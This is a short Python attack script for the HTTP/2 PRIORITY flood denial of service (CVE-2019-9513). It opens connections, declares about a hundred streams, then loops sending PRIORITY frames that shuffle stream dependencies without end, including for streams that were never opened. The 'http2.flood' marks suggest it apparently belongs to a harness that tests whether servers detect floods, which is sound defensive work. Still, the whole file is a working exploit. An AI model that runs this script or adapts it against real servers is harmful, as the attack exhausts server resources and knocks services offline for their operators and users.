#!/usr/bin/python3
"""PRIORITY flood (CVE-2019-9513): the dependencies of streams shuffled without an end, also of streams that never were."""
from attacker import Peer, h2, headers, main

MARK = ("http2.flood_empty", "http2.flood_windows")
ENDED = True


def priority(stream, parent):
    return h2.frame(h2.PRIORITY, 0, stream, parent.to_bytes(4, "big") + b"\xff")


def attack(run):
    while run.going():
        peer = Peer(run)
        peer.send(b"".join(headers(s) for s in range(1, 200, 2)), 100)
        shuffle = b"".join(priority(s, (s + 2) % 198 | 1) for s in range(1, 198, 2)) + \
            b"".join(priority(s, s - 2) for s in range(1001, 1400, 2))
        while peer.send(shuffle, 299) and run.going():
            pass
        peer.wait(2)
        peer.close()


if __name__ == "__main__":
    main(attack)
